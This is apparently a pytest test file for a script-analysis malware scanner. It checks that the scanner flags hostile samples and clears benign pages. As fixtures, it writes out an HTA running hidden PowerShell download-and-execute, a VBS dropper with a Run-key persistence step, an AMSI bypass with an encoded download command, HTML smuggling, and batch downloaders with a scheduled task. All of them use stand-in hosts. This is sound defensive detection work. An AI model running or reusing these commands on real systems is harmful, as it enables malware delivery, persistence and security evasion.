"""Script analyser: small handwritten scripts of every language, benign pages, and the strelka corpus."""

from __future__ import annotations

import base64
import io
import zipfile
from pathlib import Path

import pytest

from aptcatch.capture.engine import Scanner
from aptcatch.capture.formats import script_decode as dec
from aptcatch.model.scan import ItemResult


def scan(text: str | bytes, name: str) -> ItemResult:
    data = text.encode("utf-8") if isinstance(text, str) else text
    return Scanner().scan_bytes(data, name=name)


def ids(result: ItemResult) -> set[str]:
    return {f.id for f in result.findings}


HTA = '''<html><head><title>Document</title>
<HTA:APPLICATION ID="app" APPLICATIONNAME="viewer" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>
<script language="VBScript">
Set sh = CreateObject("WScript.Shell")
sh.Run "powershell -nop -w hidden -c ""iex (iwr http://203.0.113.9/s.ps1)""", 0, False
window.close
</script></head><body>Loading...</body></html>'''


def test_hta_runs_hidden_powershell_download() -> None:
    r = scan(HTA, "document.hta")
    assert r.type == "hta"
    found = ids(r)
    assert {"script.hta_application", "script.hta_hidden_window", "script.html_active_content"} <= found
    assert {"script.shell_execution", "script.download", "script.download_execute"} <= found
    assert "script.hidden_window" in found
    assert r.verdict == "malicious"
    assert any(i.value == "203.0.113.9" for i in r.indicators)


VBS_DROPPER = """Dim http, stream, sh
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "http://update-check.top/payload.bin", False
http.Send
Set stream = CreateObject("ADODB.Stream")
stream.Type = 1
stream.Open
stream.Write http.ResponseBody
stream.SaveToFile "C:\\Users\\Public\\svc.exe", 2
Set sh = CreateObject("WScript.Shell")
sh.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\svc", "C:\\Users\\Public\\svc.exe"
sh.Run "C:\\Users\\Public\\svc.exe"
"""


def test_vbs_dropper_with_run_key() -> None:
    r = scan(VBS_DROPPER, "update.vbs")
    assert r.type == "vbs"
    found = ids(r)
    assert {"script.download_execute", "script.write_file", "script.persistence_run_key"} <= found
    assert r.verdict == "malicious"
    values = {i.value for i in r.indicators}
    assert "update-check.top" in values
    assert "C:\\Users\\Public\\svc.exe" in values


def test_js_charcode_eval() -> None:
    hidden = "new ActiveXObject('WScript.Shell').Run('calc')"
    codes = ",".join(str(ord(c)) for c in hidden)
    js = f"var a = String.fromCharCode({codes});\nvar f = this['ev' + 'al'];\neval(a);\n"
    r = scan(js, "invoice.js")
    found = ids(r)
    assert {"script.obfuscated_strings", "script.dynamic_eval"} <= found
    assert "script.shell_execution" in found  # seen in the decoded text


def test_script_encoder_is_decoded() -> None:
    body = "#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@"
    assert dec.decode_screnc(body) == ['MsgBox "Hello"']
    assert dec.decode_screnc("#@~^GQAAAA==\\ko$K6,JC\x7fV^G~SW.V9J~@#@&JwcAAA==^#~@")[0].startswith("MsgBox")
    r = scan(body, "readme.vbe")
    assert "script.screnc_encoded" in ids(r)


def test_powershell_amsi_and_encoded_child() -> None:
    inner = "Start-Process calc.exe; (New-Object Net.WebClient).DownloadFile('http://cdn.bad-host.top/x','x')"
    enc = base64.b64encode(inner.encode("utf-16-le")).decode()
    ps = (
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"
        ".GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\n"
        f"powershell.exe -ExecutionPolicy Bypass -EncodedCommand {enc}\n"
    )
    r = scan(ps, "run.ps1")
    found = ids(r)
    assert {"script.amsi_bypass", "script.encoded_powershell", "script.powershell_evasion"} <= found
    assert r.artifact.children and r.artifact.children[0].type == "powershell"
    assert "script.download_execute" in found  # from the decoded child
    assert any(i.value == "cdn.bad-host.top" for i in r.indicators)


def _zip_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("invoice.js", "WScript.Echo('x');" * 20)
    return buf.getvalue()


def test_html_smuggling_extracts_payload() -> None:
    blob = base64.b64encode(_zip_bytes()).decode()
    html = f"""<html><body><p>Your document is downloading</p><script>
var d = atob("{blob}");
var b = new Uint8Array(d.length); for (var i = 0; i < d.length; i++) {{ b[i] = d.charCodeAt(i); }}
var f = new Blob([b], {{type: 'application/zip'}});
var a = document.createElement('a'); a.href = URL.createObjectURL(f); a.download = 'invoice.zip';
document.body.appendChild(a); a.click();
</script></body></html>"""
    r = scan(html, "invoice.html")
    found = ids(r)
    assert {"script.html_smuggling", "script.embedded_payload"} <= found
    assert any(c.type == "zip" for c in r.artifact.children)
    assert r.verdict == "malicious"
    assert "Your document is downloading" in r.lure.excerpt


BENIGN_HTML = (
    """<!DOCTYPE html><html><head><title>Quarterly newsletter</title>
<style>body { background: url(data:image/png;base64,"""
    + "iVBORw0KGgo" * 40
    + """); }</style>
<script>
function createXHR() { try { return new XMLHttpRequest(); } catch (e) {}
  try { return new window.ActiveXObject("Microsoft.XMLHTTP"); } catch (e) {} }
var cfg = eval("(" + '{"a":1}' + ")");
$(function(){ $('#menu').on('click', function(){ fetch('/api/items').then(r => r.json()); }); });
</script></head><body><h1>News</h1>
<p>Visit <a href="https://www.example.org/">our site</a>.</p></body></html>"""
)


def test_benign_html_scores_nothing() -> None:
    r = scan(BENIGN_HTML, "newsletter.html")
    assert r.type == "html"
    assert not [f for f in r.findings if f.weight >= 0.15], r.findings
    assert r.verdict == "clean"


def test_sct_scriptlet() -> None:
    sct = """<?XML version="1.0"?>
<scriptlet>
<registration progid="Pentest" classid="{F0001111-0000-0000-0000-0000FEEDACDC}">
<script language="JScript"><![CDATA[ var r = new ActiveXObject("WScript.Shell").Run("calc.exe"); ]]></script>
</registration>
</scriptlet>"""
    r = scan(sct, "file.sct")
    assert r.type == "sct"
    assert {"script.sct_scriptlet", "script.shell_execution"} <= ids(r)
    assert r.artifact.metadata["sct_progid"] == "Pentest"


def test_url_shortcuts() -> None:
    remote = "[InternetShortcut]\r\nURL=file://203.0.113.5/share/invoice.exe\r\nIconFile=\\\\203.0.113.5\\icons\\pdf.ico\r\n"
    r = scan(remote, "invoice.url")
    assert r.type == "url-shortcut"
    assert "script.url_shortcut_remote" in ids(r)
    assert "T1187" in r.techniques
    web = "[InternetShortcut]\nURL=https://www.example.org/\n"
    r2 = scan(web, "site.url")
    assert ids(r2) <= {"script.url_shortcut_web"}
    assert r2.verdict == "clean"


def test_batch_downloader_and_task() -> None:
    bat = (
        "@echo off\r\ncurl -s -o %TEMP%\\u.exe http://files.dl-mirror.top/u.exe && start %TEMP%\\u.exe\r\n"
        'schtasks /create /sc minute /mo 30 /tn "Updater" /tr %TEMP%\\u.exe\r\n'
    )
    r = scan(bat, "setup.bat")
    assert r.type == "batch"
    assert {"script.download_execute", "script.scheduled_task"} <= ids(r)


def test_admin_script_is_not_malicious() -> None:
    vbs = (
        'Set net = CreateObject("WScript.Network")\n'
        'net.MapNetworkDrive "H:", "\\\\fileserver\\home\\" & net.UserName\n'
        'Set sh = CreateObject("WScript.Shell")\n'
        'sh.Run "gpupdate /force", 0, True\n'
    )
    r = scan(vbs, "logon.vbs")
    assert r.verdict != "malicious"


def test_text_child_gets_indicators_only() -> None:
    r = scan("Please visit http://login-portal.top/verify and call us.", "note.txt")
    assert r.type == "text"
    assert not r.findings
    assert any(i.value == "login-portal.top" for i in r.indicators)


def test_decoder_bounds() -> None:
    huge = "eval(String.fromCharCode(" + ",".join(["65"] * 200000) + "))"
    out = dec.decode_charcodes(huge)
    assert out and len(out[0]) <= 200000
    assert dec.powershell_encoded_commands("-e notbase64!!") == []
    assert list(dec.base64_blobs("A" * 5000)) == []


@pytest.mark.corpus
@pytest.mark.parametrize(
    "name",
    [
        "test.html",
        "test_hyperlinks.html",
        "test_whitespace.html",
        "test.url",
        "test.iqy",
        "test.jnlp",
        "test.txt",
    ],
)
def test_strelka_fixtures_not_malicious(shared_data: Path, name: str) -> None:
    r = Scanner().scan_file(shared_data / "strelka-fixtures" / name)
    assert r.verdict != "malicious"
    if name != "test.iqy":  # a web query is suspicious by nature
        assert r.verdict == "clean", [f.id for f in r.findings]


def test_hex_strings_and_batch_noise() -> None:
    hidden = "@echo off\r\npowershell iwr -uri http://198.51.100.20/a.dat -o C:\\programdata\\a.jpg\r\n"
    spaced = " ".join(f"{b:02x}" for b in hidden.encode())
    assert dec.decode_hex_strings(f"$a = '{spaced}' -split ' '")[0] == hidden
    bat = "@echo off\r\nset real=1\r\npo%x%wer%q%sh%z%ell -w %a%hid%b%den -c %real% %c%%d%%e%%f%%g%%h%%i%\r\n"
    cleaned, removed = dec.strip_batch_noise(bat)
    assert removed >= 10 and "powershell -w hidden -c %real%" in cleaned
    r = scan(bat, "run.bat")
    assert {"script.obfuscated_strings", "script.hidden_window"} <= ids(r)


def _maldoc(root: Path, campaign: str, prefix: str) -> tuple[str, bytes]:
    pyzipper = pytest.importorskip("pyzipper")
    path = next((root / "maldocs-dev" / campaign).glob(prefix + "*.zip"))
    with pyzipper.AESZipFile(path) as zf:
        name = zf.namelist()[0]
        return name, zf.read(name, pwd=b"infected")


@pytest.mark.corpus
def test_onenote_droppers(shared_data: Path) -> None:
    name, data = _maldoc(shared_data, "2023-02-OneNote", "660870c3")  # Open.jse, Script-Encoder encoded
    r = Scanner().scan_bytes(data, name=name)
    assert {"script.screnc_encoded", "script.shell_execution", "script.hidden_window"} <= ids(r)
    name, data = _maldoc(shared_data, "2023-02-OneNote", "043065868c")  # Open.Bat with a hex-encoded stage
    r = Scanner().scan_bytes(data, name=name)
    assert {"script.obfuscated_strings", "script.download_execute"} <= ids(r)
    assert any(i.value == "45.67.35.108" for i in r.indicators)
